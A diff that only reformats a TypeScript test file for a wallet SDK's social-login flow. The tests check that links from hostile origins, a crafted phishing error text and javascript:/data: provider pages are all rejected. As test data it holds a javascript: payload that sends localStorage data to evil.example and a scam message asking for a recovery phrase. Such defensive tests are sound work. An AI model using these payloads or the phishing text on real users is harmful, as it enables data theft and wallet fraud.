@@ -16,10 +16,17 @@ import { socialLoginMachine } from './socialLogin.machine.ts';
 const SECURE_SITE = 'https://secure.example.com/sdk';
 const CALLBACK = `https://secure.example.com${SOCIAL_CALLBACK_PATH}`;
 const PHISHING = 'Your wallet is locked. Call +1 800 555 0100 and read out your recovery phrase';
-const USER: EmbeddedWalletUser = { email: null, address: '0x2222222222222222222222222222222222222222', chainId: 1 };
+const USER: EmbeddedWalletUser = {
+  email: null,
+  address: '0x2222222222222222222222222222222222222222',
+  chainId: 1,
+};
 
 /** The flow with recorded effects; the provider's page is `providerUri`. */
-function run(start: Omit<SocialLoginStart, 'secureSite'>, providerUri = 'https://idp.example/authorize?state=s1') {
+function run(
+  start: Omit<SocialLoginStart, 'secureSite'>,
+  providerUri = 'https://idp.example/authorize?state=s1',
+) {
   const effects = { connected: [] as string[], navigated: [] as string[], shown: [] as string[] };
   const logic = socialLoginMachine.provide({
     actors: {
@@ -43,7 +50,12 @@ function run(start: Omit<SocialLoginStart, 'secureSite'>, providerUri = 'https:/
   return { actor, effects };
 }
 
-const RETURNED = { provider: undefined, mode: 'redirect', hasAuthConnector: true, popupOpened: false } as const;
+const RETURNED = {
+  provider: undefined,
+  mode: 'redirect',
+  hasAuthConnector: true,
+  popupOpened: false,
+} as const;
 const POPUP = { provider: 'github', mode: 'popup', hasAuthConnector: true, popupOpened: true } as const;
 
 /** Wait for the flow to settle in `state`. */
@@ -61,12 +73,15 @@ describe('a result is taken only from the secure site (origin and callback path)
     ['plain http to the same host', `http://secure.example.com${SOCIAL_CALLBACK_PATH}?code=c1`],
     ['another path of the secure site', 'https://secure.example.com/sdk/anything?code=c1&state=s1'],
     ['not a URL', 'code=c1&state=s1'],
-  ])('attack: a result_uri link to %s is never sent to the frame; the failure is a known text', async (_, uri) => {
-    const { actor, effects } = run({ ...RETURNED, resultUri: uri });
-    await settled(actor, 'failed');
-    expect(effects.connected).toEqual([]);
-    expect(actor.getSnapshot().context.error).toBe(MESSAGES.failedToConnect);
-  });
+  ])(
+    'attack: a result_uri link to %s is never sent to the frame; the failure is a known text',
+    async (_, uri) => {
+      const { actor, effects } = run({ ...RETURNED, resultUri: uri });
+      await settled(actor, 'failed');
+      expect(effects.connected).toEqual([]);
+      expect(actor.getSnapshot().context.error).toBe(MESSAGES.failedToConnect);
+    },
+  );
 
   test('attack: a crafted link with an error text of its own shows a known text, not its words', async () => {
     const crafted = `https://evil.example/?error=${encodeURIComponent(PHISHING)}`;
@@ -100,22 +115,25 @@ describe('a result is taken only from the secure site (origin and callback path)
     await new Promise<void>((resolve) =>
       fromPopup.actor.subscribe((s) => s.matches({ withPopup: 'awaitingProvider' }) && resolve()),
     );
-    fromPopup.actor.send({ type: 'social.result', resultUri: `https://evil.example${SOCIAL_CALLBACK_PATH}?code=x` });
+    fromPopup.actor.send({
+      type: 'social.result',
+      resultUri: `https://evil.example${SOCIAL_CALLBACK_PATH}?code=x`,
+    });
     await settled(fromPopup.actor, 'failed');
     expect(fromPopup.effects.connected).toEqual([]);
   });
 });
 
 describe("the provider's page must be a web page", () => {
-  test.each(['javascript:fetch("https://evil.example/?"+localStorage.length)', 'data:text/html,<script>1</script>'])(
-    'attack: the frame answers %j: neither the page nor the popup goes there',
-    async (uri) => {
-      for (const start of [POPUP, { ...POPUP, mode: 'redirect', popupOpened: false } as const]) {
-        const { actor, effects } = run(start, uri);
-        await settled(actor, 'failed');
-        expect(effects).toEqual({ connected: [], navigated: [], shown: [] });
-        expect(actor.getSnapshot().context.error).toBe(MESSAGES.failedToInitiateSocialConnection);
-      }
-    },
-  );
+  test.each([
+    'javascript:fetch("https://evil.example/?"+localStorage.length)',
+    'data:text/html,<script>1</script>',
+  ])('attack: the frame answers %j: neither the page nor the popup goes there', async (uri) => {
+    for (const start of [POPUP, { ...POPUP, mode: 'redirect', popupOpened: false } as const]) {
+      const { actor, effects } = run(start, uri);
+      await settled(actor, 'failed');
+      expect(effects).toEqual({ connected: [], navigated: [], shown: [] });
+      expect(actor.getSnapshot().context.error).toBe(MESSAGES.failedToInitiateSocialConnection);
+    }
+  });
 });
